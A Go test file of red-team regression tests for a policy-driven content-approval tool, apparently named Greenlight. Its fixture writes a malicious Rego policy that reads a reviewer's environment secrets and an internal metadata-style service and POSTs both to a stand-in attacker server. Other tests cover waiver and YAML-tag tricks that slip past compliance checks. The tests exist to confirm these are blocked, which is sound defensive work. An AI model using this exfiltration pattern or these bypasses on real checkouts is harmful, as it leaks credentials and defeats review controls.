package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// Second red team: the local tools on a checkout of someone else's pull
// request. Locally, greenlight.hcl is read from the checkout, so the
// pull request's author writes the config, and with it allow_builtins.

// leakRepo is a checkout whose config (written by the pull request's
// author) puts http.send back, and whose policy reads a service only the
// machine running Greenlight can reach (a cloud metadata endpoint, an
// intranet page: internal here) and posts what it read to the author's
// server (url). It also tries opa.runtime's environment.
func leakRepo(t *testing.T, internal, url string) string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"greenlight.hcl": `greenlight {
  content        = ["posts/**/*.md"]
  policies       = ["policies"]
  allow_builtins = ["opa.runtime", "http.send"]
}
`,
		"policies/leak.rego": `package team.leak

env := object.get(object.get(opa.runtime(), "env", {}), "GL_REDTEAM2_SECRET", "no env")

internal := http.send({"method": "GET", "url": "` + internal + `", "raise_error": false}).raw_body

sent := http.send({"method": "POST", "url": "` + url + `", "raw_body": sprintf("%s|%s", [internal, env]), "raise_error": false})

info contains {"msg": sprintf("sent %v", [sent.status_code])} if true
`,
		"policies/leak_test.rego": `package team.leak_test

import data.team.leak

test_leak if {
	leak.sent.status_code == 200
}
`,
		"posts/a.md": "---\ntitle: Hello\nchannels: [x]\n---\nHello there.\n",
	}
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// internalService stands for what only the reviewer's machine reaches.
func internalService(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "AWS_SECRET_FROM_METADATA")
	}))
	t.Cleanup(srv.Close)
	return srv
}

// exfil is the author's server: it records what policies send it.
func exfil(t *testing.T) (*httptest.Server, func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got = append(got, string(b))
		mu.Unlock()
	}))
	t.Cleanup(srv.Close)
	return srv, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string(nil), got...) }
}

// A reviewer runs `greenlight check` (or `test`, `inspect`, the editor's
// `lsp`) on a checkout of a pull request, as the README invites. Locally
// the pull request's own greenlight.hcl is read, and it sets
// allow_builtins = ["opa.runtime", "http.send"]: its policy tries to read
// the reviewer's environment and an internal service and post both to the
// author. Blocked: opa.runtime is given no runtime (an empty object, no
// env), and the capabilities' empty allow_net refuses every host to
// http.send even when allow_builtins names it.
func TestRedTeam2BlockedCheckoutsAllowBuiltinsCannotLeakThroughCheck(t *testing.T) {
	srv, received := exfil(t)
	dir := leakRepo(t, internalService(t).URL, srv.URL)
	t.Setenv("GL_REDTEAM2_SECRET", "ghp_reviewers_token")
	stdout, stderr, code := runIn(t, dir, "check", ".")
	if got := received(); len(got) > 0 || strings.Contains(stdout+stderr, "ghp_reviewers_token") {
		t.Errorf("leak: check (exit %d) ran the checkout's policy with opa.runtime and http.send; the author's server received %q\n%s%s",
			code, got, stdout, stderr)
	}
}

// The same through `greenlight test`, which runs the checkout's Rego
// tests (print enabled) with the checkout's allow_builtins.
func TestRedTeam2BlockedCheckoutsAllowBuiltinsCannotLeakThroughTest(t *testing.T) {
	srv, received := exfil(t)
	dir := leakRepo(t, internalService(t).URL, srv.URL)
	if err := os.WriteFile(filepath.Join(dir, "policies/env_test.rego"), []byte("package team.env_test\n\ntest_env if {\n\tprint(opa.runtime())\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GL_REDTEAM2_SECRET", "ghp_reviewers_token")
	stdout, stderr, code := runIn(t, dir, "test")
	if got := received(); len(got) > 0 || strings.Contains(stdout+stderr, "ghp_reviewers_token") || strings.Contains(stdout+stderr, "AWS_SECRET") {
		t.Errorf("leak: test (exit %d) ran the checkout's Rego with opa.runtime and http.send; the author's server received %q\n%s%s",
			code, got, stdout, stderr)
	}
}

// The example team policy (examples/policies/finance.rego), which the
// README offers as the model for a team's own, waives its disclaimer rule
// when the post's front matter says `disclaimer_waived_by: legal`. The
// front matter is the author's: writing that line is the whole waiver. No
// legal stage is required and nobody from legal approves; the finding
// turns into an info line "waived by an exception", and check (and the
// gate) pass. An `exception` fed by post content is a self-service waiver.
func TestRedTeam2BlockedExampleFinanceWaiverNeedsLegal(t *testing.T) {
	examples, err := filepath.Abs(filepath.Join("..", "..", "examples"))
	if err != nil {
		t.Fatal(err)
	}
	post := "---\ntitle: Rates\nchannels: [x]\ntopic: finance\ndisclaimer_waived_by: legal\npublish_at: 2026-12-20T09:00:00-05:00\n---\nOur savings rate doubles next week.\n"
	stdout, stderr, code := runInput(t, examples, post, "check", "-", "--stdin-filename", "posts/2026-12-20-rates.md", "--now", "2026-11-20T00:00:00Z")
	if code == 0 && !strings.Contains(stdout, "legal") {
		t.Errorf("bypass: a finance post without its disclaimer passes because its author wrote disclaimer_waived_by: legal; "+
			"no legal stage is required (exit %d):\n%s%s", code, stdout, stderr)
	}
}

// The alt text of a front-matter media item (published with the image on
// every channel that takes alt text) is not matched: a compliance trigger
// there requires no stage, though the same words as an image's alt in the
// body do. (If the first red team's alt-text fix covers media[].alt, the
// "!!binary" case remains: frontmatter.go takes a scalar's Value, which for
// a !!binary-tagged scalar is its base64 text, while a YAML library in a
// posting tool decodes it to the bytes "A risk-free plan". The same holds
// for title and campaign.)
func TestRedTeam2BlockedMediaAltTextIsJudgedAndTagsRefused(t *testing.T) {
	cfg := `greenlight {
  content = ["posts/**/*.md"]
}
role "legal" { users = ["lee"] }
stage "legal" {
  approvers = [role.legal]
  when      = "compliance"
}
compliance "financial-claims" {
  tokens   = ["risk-free"]
  requires = [stage.legal]
}
`
	for name, alt := range map[string]string{
		"plain":    "A risk-free plan",
		"!!binary": "!!binary QSByaXNrLWZyZWUgcGxhbg==", // base64("A risk-free plan")
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			for file, text := range map[string]string{
				"greenlight.hcl": cfg,
				"posts/a.md":     "---\ntitle: Plans\nchannels: [x]\nmedia:\n  - src: plan.png\n    alt: " + alt + "\n---\nSee our new plan.\n",
			} {
				p := filepath.Join(dir, filepath.FromSlash(file))
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			stdout, stderr, code := runIn(t, dir, "check", "--require-signoffs", ".")
			if name == "!!binary" {
				// Refused: a tagged value would be judged as written but
				// published decoded.
				if code != 2 || !strings.Contains(stderr, "Unsupported YAML tag") {
					t.Errorf("bypass: a !!binary alt text is not refused: exit %d\n%s%s", code, stdout, stderr)
				}
				return
			}
			if code == 0 || !strings.Contains(stdout, "legal") {
				t.Errorf("bypass: alt text %q (published with the image) requires no legal sign-off: exit %d\n%s%s", alt, code, stdout, stderr)
			}
		})
	}
}
